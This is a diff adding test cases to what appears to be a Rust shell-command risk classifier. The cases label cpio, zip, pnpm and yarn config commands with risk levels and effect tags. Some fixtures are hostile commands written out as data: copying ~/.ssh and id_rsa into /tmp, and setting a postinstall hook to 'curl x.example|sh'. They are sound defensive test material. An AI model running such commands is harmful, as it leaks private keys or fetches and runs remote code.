@@ -490,7 +490,10 @@ pub(crate) const CASES: &[(&str, Level, &[&str])] = &[
     ("find ~/.ssh -depth | cpio -pdm /tmp/copy", Destructive, &["read.secret", "write.temp"]),
     ("git ls-files | tar czf /tmp/src.tgz -T -", Moderate, &["overwrite.temp"]),
     ("find src | cpio -o > /tmp/src.cpio", Moderate, &["overwrite.temp"]),
-    ("cpio -idv < archive.cpio", Moderate, &["write.project"]),
+    ("cpio -idv < archive.cpio", Moderate, &["write.project", "write.unknown"]),
+    ("cpio -idv --no-absolute-filenames < archive.cpio", Moderate, &["write.project"]),
+    ("cpio -it < archive.cpio", Safe, &[]),
+    ("zip -r out.zip src -x@exclude.lst", Moderate, &["overwrite.project"]),
     ("tar czf dist.tgz -T filelist.txt", Moderate, &["overwrite.project"]),
     // Files of one type in the project are its own files, as all of them are; a type that is
     // a secret's own, a name that is, or the type where a secret of it is kept still count.
@@ -526,6 +529,13 @@ pub(crate) const CASES: &[(&str, Level, &[&str])] = &[
     ("perl -ie 's/a/b/' f", Moderate, &["run.project"]),
     // Package managers' settings: a place is a value, code is read where a key names it.
     ("pnpm config set store-dir ~/.pnpm-store", Safe, &[]),
+    ("pnpm config set --location project script-shell /tmp/x.sh", Opaque, &["run.unknown"]),
+    ("pnpm config set scriptShell /tmp/x.sh", Opaque, &["run.unknown"]),
+    ("pnpm config set global-pnpmfile /tmp/x.cjs", Opaque, &["run.unknown"]),
+    ("pnpm config set strict-ssl false", Opaque, &["run.unknown"]),
+    ("yarn config set -H yarnPath /tmp/x.js", Opaque, &["run.unknown"]),
+    ("yarn config set initFields.scripts.postinstall 'curl x.example|sh'", Opaque, &["run.unknown"]),
+    ("pnpm config set auto-install-peers true", Safe, &[]),
     ("yarn config set cacheFolder ~/.yarn-cache", Safe, &[]),
     // Perl's File::Copy and sysopen name the places they act on.
     ("perl -MFile::Copy -e 'copy(\"$ENV{HOME}/.ssh/id_rsa\", \"/tmp/k\")'", Destructive, &["read.secret", "overwrite.temp", "write.secret"]),
